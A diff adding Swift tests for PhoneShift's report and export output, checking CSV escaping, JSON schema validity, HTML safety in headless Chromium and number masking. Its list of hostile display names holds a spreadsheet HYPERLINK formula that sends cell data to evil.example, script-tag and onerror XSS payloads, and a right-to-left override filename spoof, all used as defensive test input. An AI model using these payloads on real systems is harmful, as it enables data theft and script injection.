@@ -1,0 +1,198 @@
+import Foundation
+import GraphEmulator
+import Testing
+@testable import PhoneShift
+
+/// Runs a program of this machine (python3, chromium) off the cooperative pool; its output
+/// goes through files, so that no pipe can fill up.
+func runTool(_ executable: String, _ arguments: [String], in dir: TemporaryDirectory) async throws -> (status: Int32, stdout: String, stderr: String) {
+    try await runOnThread {
+        let process = Process()
+        process.executableURL = URL(fileURLWithPath: executable)
+        process.arguments = arguments
+        let name = UUID().uuidString
+        let out = dir.file("\(name).out", ""), err = dir.file("\(name).err", "")
+        process.standardOutput = FileHandle(forWritingAtPath: out)
+        process.standardError = FileHandle(forWritingAtPath: err)
+        try process.run()
+        process.waitUntilExit()
+        return (process.terminationStatus, (try? String(contentsOfFile: out, encoding: .utf8)) ?? "",
+                (try? String(contentsOfFile: err, encoding: .utf8)) ?? "")
+    }
+}
+
+/// The headless browser the HTML report is tested in (installed by .ci/setup).
+let browser: String? = ["/usr/bin/chromium-headless-shell", "/usr/bin/chromium"].first { FileManager.default.isExecutableFile(atPath: $0) }
+
+extension EngineTests {
+    /// Display names a directory may really hold, and some an attacker would try.
+    static let nastyNames = [
+        "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
+        "<script>document.body.setAttribute('data-pwned','script')</script>",
+        "<img src=x onerror=\"document.body.setAttribute('data-pwned','img')\">",
+        "+SUM(1,2)",
+        "Line one\r\nLine two",
+        "محمد بن سلمان \u{202E}gnp.exe",
+        "Zoë Ångström-Øberg 山田太郎",
+        String(repeating: "long-name ", count: 1000) + "end",
+    ]
+
+    @Test("Reports after apply with nasty input: report.csv neutralised and masked, report.json valid against its schema, report.html checked in a headless browser, failures.csv fed back in")
+    func reportsWithNastyInput() async throws {
+        let f = try await EngineFixture(syntheticUsers: 40) { options in
+            let base = options.seed.users.count - 40
+            // The nasty names are admins: blocked, so always listed in the HTML's attention table.
+            for (i, name) in Self.nastyNames.enumerated() {
+                options.seed.users[base + i].displayName = name
+                options.seed.users[base + i].roles = ["Global Administrator"]
+            }
+            options.seed.users[base + 11].eligibleRoles = ["User Administrator"]
+        }
+        defer { Task { await f.stop() } }
+        // A ';' sheet with an extra column holding a formula, CR/LF and a 10 kB cell.
+        var sheet = "UPN;Phone;Note\n"
+        for i in 1...40 {
+            let note: String
+            switch i % 4 {
+            case 0: note = "=1+1"
+            case 1: note = "\"two\r\nlines; \"\"quoted\"\"\""
+            case 2: note = String(repeating: "x", count: 10_000)
+            default: note = "plain"
+            }
+            sheet += "bench\(i)@contoso.com;\(EngineFixture.newNumber(i));\(note)\n"
+        }
+        _ = f.dir.file("sheet.csv", sheet)
+        _ = f.writeJob(writesPerSecond: 400, concurrency: 4, maxAttempts: 1)
+        #expect(try await f.phoneshift(["plan", f.jobPath]).status == 0)
+        // Moved behind PhoneShift's back, and Graph failing a share of requests.
+        let ids = try await f.userIds()
+        try await f.changeInGraph(userId: ids["bench20@contoso.com"]!, slot: "mobile", number: "+1 2065559999")
+        try await f.put("/_emulator/faults", json: ["errorRates": ["500": 0.25]])
+        let apply = try await f.phoneshift(["apply", f.jobPath])
+        #expect(apply.status == 1, "\(apply.stdout) \(apply.stderr)")
+        #expect(apply.stdout.contains("report.html") && apply.stdout.contains("failures.csv"), "\(apply.stdout)")
+        try await f.put("/_emulator/faults", json: ["errorRates": [String: Double]()])
+        let rows = try await f.storeRows()
+        let out = f.dir.path + "/out"
+
+        // report.csv, read back with libcsv: a row per sheet row, formulas neutralised, names intact, numbers masked.
+        let records = try readAll(out + "/report.csv")
+        #expect(records.count == 41)
+        let header = records[0].fields
+        #expect(header == Reports.csvColumns)
+        let nameColumn = header.firstIndex(of: "display_name")!, afterColumn = header.firstIndex(of: "after")!
+        var names: [String: String] = [:]
+        for record in records.dropFirst() { names[record.fields[1]] = record.fields[nameColumn] }
+        #expect(names["bench1@contoso.com"] == "'" + Self.nastyNames[0])
+        #expect(names["bench4@contoso.com"] == "'" + Self.nastyNames[3])
+        #expect(names["bench5@contoso.com"] == Self.nastyNames[4])
+        #expect(names["bench6@contoso.com"] == Self.nastyNames[5] && names["bench8@contoso.com"] == Self.nastyNames[7])
+        #expect(records.dropFirst().allSatisfy { $0.fields[afterColumn].contains("*") })
+        #expect(!(try String(contentsOfFile: out + "/report.csv", encoding: .utf8)).contains("2127000001"))
+        for file in ["report.csv", "report.json", "report.html", "failures.csv"] {
+            let mode = try FileManager.default.attributesOfItem(atPath: out + "/" + file)[.posixPermissions] as? Int
+            #expect(mode == 0o600, "\(file)")
+        }
+
+        // report.json: valid against the schema in the repository, counts equal the store's.
+        let schema = packageRoot + "/Sources/PhoneShift/Report/report-v1.schema.json"
+        let check = try await runTool("/usr/bin/env", ["python3", "-c", """
+            import json, sys, jsonschema
+            schema = json.load(open(sys.argv[1])); report = json.load(open(sys.argv[2]))
+            jsonschema.Draft202012Validator.check_schema(schema)
+            jsonschema.validate(report, schema, cls=jsonschema.Draft202012Validator)
+            print(json.dumps(report["counts"]["byResult"], sort_keys=True))
+            """, schema, out + "/report.json"], in: f.dir)
+        #expect(check.status == 0, "report.json does not match its schema: \(check.stderr)")
+        var expected: [String: Int] = [:]
+        for row in rows.values { expected[Reports.result(row), default: 0] += 1 }
+        let reported = try JSONSerialization.jsonObject(with: Data(check.stdout.utf8)) as? [String: Int]
+        #expect(reported == expected)
+        let json = try JSONSerialization.jsonObject(with: Data(contentsOf: URL(fileURLWithPath: out + "/report.json"))) as! [String: Any]
+        #expect((json["rows"] as! [[String: Any]]).first { $0["user"] as? String == "bench2@contoso.com" }?["displayName"] as? String == Self.nastyNames[1])
+        #expect(!String(decoding: try Data(contentsOf: URL(fileURLWithPath: out + "/report.json")), as: UTF8.self).contains(EmulatorOptions.defaultClientSecret))
+
+        // report.html in a real browser: loads, no console message, no request, script inert, figures equal the store's.
+        let chromium = try #require(browser, "chromium-headless-shell is not installed (.ci/setup installs it)")
+        let netLog = f.dir.path + "/net.json", shot = f.dir.path + "/report.png"
+        let page = try await runTool(chromium, ["--headless", "--no-sandbox", "--disable-gpu", "--enable-logging=stderr", "--v=0",
+                                                "--log-net-log=\(netLog)", "--virtual-time-budget=3000", "--dump-dom", "file://\(out)/report.html"],
+                                     in: f.dir)
+        #expect(page.status == 0, "\(page.stderr)")
+        let dom = page.stdout
+        #expect(dom.contains("data-ready=\"yes\""), "the page's own script did not run")
+        #expect(!dom.contains("data-pwned=\""), "a planted script ran")
+        #expect(dom.contains("&lt;script&gt;document.body.setAttribute"), "the planted script is not shown as text")
+        #expect(!page.stderr.contains("CONSOLE"), "console messages: \(page.stderr.split(separator: "\n").filter { $0.contains("CONSOLE") })")
+        let requests = try String(contentsOfFile: netLog, encoding: .utf8)
+        let urls = Set(requests.matches(of: /"url":"([^"]+)"/).map { String($0.1) })
+        #expect(urls.allSatisfy { $0.hasPrefix("file://") }, "network requests: \(urls)")
+        func figure(_ key: String) -> Int? {
+            guard let match = dom.firstMatch(of: try! Regex("data-figure=\"\(key)\">([0-9]+)<")) else { return nil }
+            return Int(match.output[1].substring ?? "")
+        }
+        let written = rows.values.filter { ["changed", "added", "changed-not-unique", "already-applied"].contains($0.outcome ?? "") }.count
+        #expect(figure("written") == written)
+        #expect(figure("failed") == rows.values.filter { $0.state == .failed }.count)
+        #expect(figure("rows") == 40)
+        #expect(figure("to-write") == rows.values.filter { $0.action.writes }.count)
+        _ = try await runTool(chromium, ["--headless", "--no-sandbox", "--disable-gpu", "--window-size=1280,1600", "--screenshot=\(shot)",
+                                         "file://\(out)/report.html"], in: f.dir)
+        #expect(FileManager.default.fileExists(atPath: shot))
+        if let keep = ProcessInfo.processInfo.environment["PHONESHIFT_KEEP_SCREENSHOT"] { try? FileManager.default.copyItem(atPath: shot, toPath: keep) }
+
+        // failures.csv: the failed, blocked and moved rows, in the sheet's own columns and delimiter, verbatim.
+        let again = rows.values.filter { $0.state == .failed || $0.outcome == "moved" || $0.action == .blocked }
+        #expect(again.count >= 3)
+        let failures = try readAll(out + "/failures.csv", SheetReaderOptions(delimiter: UInt8(ascii: ";")))
+        #expect(failures[0].fields == ["UPN", "Phone", "Note"])
+        let original = try readAll(f.dir.path + "/sheet.csv", SheetReaderOptions(delimiter: UInt8(ascii: ";")))
+        let byUser = Dictionary(original.dropFirst().map { ($0.fields[0], $0.fields) }, uniquingKeysWith: { a, _ in a })
+        #expect(failures.count == again.count + 1)
+        for record in failures.dropFirst() { #expect(record.fields == byUser[record.fields[0]], "line \(record.line)") }
+        #expect(try String(contentsOfFile: out + "/failures.csv", encoding: .utf8).split(separator: "\n").first == "UPN;Phone;Note")
+        // … and planned again as a sheet: exactly those rows.
+        let rerun = f.dir.file("rerun.yaml", try String(contentsOfFile: f.jobPath, encoding: .utf8)
+            .replacingOccurrences(of: "path: sheet.csv", with: "path: out/failures.csv")
+            .replacingOccurrences(of: "store: out/test.sqlite", with: "store: rerun/rerun.sqlite")
+            .replacingOccurrences(of: "outputs: out", with: "outputs: rerun"))
+        let replan = try await f.phoneshift(["plan", rerun])
+        #expect(replan.status == 0, "\(replan.stdout) \(replan.stderr)")
+        let rerunRows = try await JobStore(path: f.dir.path + "/rerun/rerun.sqlite").allRows(plan: 1)
+        #expect(Set(rerunRows.map(\.user)) == Set(again.map(\.user)))
+    }
+
+    @Test("export: the sample tenant to a working sheet (full numbers, owner-only) that validate and plan read back with no changes; --masked for sharing")
+    func exportRoundTrip() async throws {
+        let f = try await EngineFixture(syntheticUsers: 0)
+        defer { Task { await f.stop() } }
+        _ = f.dir.file("sheet.csv", "UPN,Phone\n")
+        _ = f.writeJob(writesPerSecond: 400, readsPerSecond: 4000)
+        let export = f.dir.path + "/export.csv"
+        let run = try await f.phoneshift(["export", f.jobPath, "--output", export])
+        #expect(run.status == 0, "\(run.stdout) \(run.stderr)")
+        #expect(run.stdout.contains("Exported 300 users"), "\(run.stdout)")
+        #expect(try FileManager.default.attributesOfItem(atPath: export)[.posixPermissions] as? Int == 0o600)
+        let records = try readAll(export)
+        #expect(records.count == 301 && records[0].fields == Exporter.columns)
+        let state = try await f.state()
+        let mobile = Exporter.columns.firstIndex(of: "Mobile")!, privileged = Exporter.columns.firstIndex(of: "Privileged")!
+        for record in records.dropFirst() {
+            #expect(record.fields[mobile] == (state[record.fields[0].lowercased()]?["mobile"] ?? ""), "\(record.fields[0])")
+        }
+        #expect(records.contains { $0.fields[privileged].hasPrefix("yes (Global Administrator") })
+        // Read back: validate, then plan with the export as the sheet: nothing to change.
+        let validate = try await f.phoneshift(["validate", export])
+        #expect(validate.status == 0, "\(validate.stdout) \(validate.stderr)")
+        _ = f.dir.file("sheet.csv", try String(contentsOfFile: export, encoding: .utf8))
+        let plan = try await f.phoneshift(["plan", f.jobPath])
+        #expect(plan.status == 0, "\(plan.stdout) \(plan.stderr)")
+        #expect(plan.stdout.contains("Changes: 0"), "\(plan.stdout)")
+        // The review copy masks every number.
+        let masked = f.dir.path + "/masked.csv"
+        #expect(try await f.phoneshift(["export", f.jobPath, "--output", masked, "--masked"]).status == 0)
+        let maskedRecords = try readAll(masked)
+        #expect(maskedRecords.dropFirst().allSatisfy { $0.fields[mobile].isEmpty || $0.fields[mobile].contains("*") })
+        #expect(zip(maskedRecords, records).allSatisfy { $0.fields[0] == $1.fields[0] })
+    }
+}
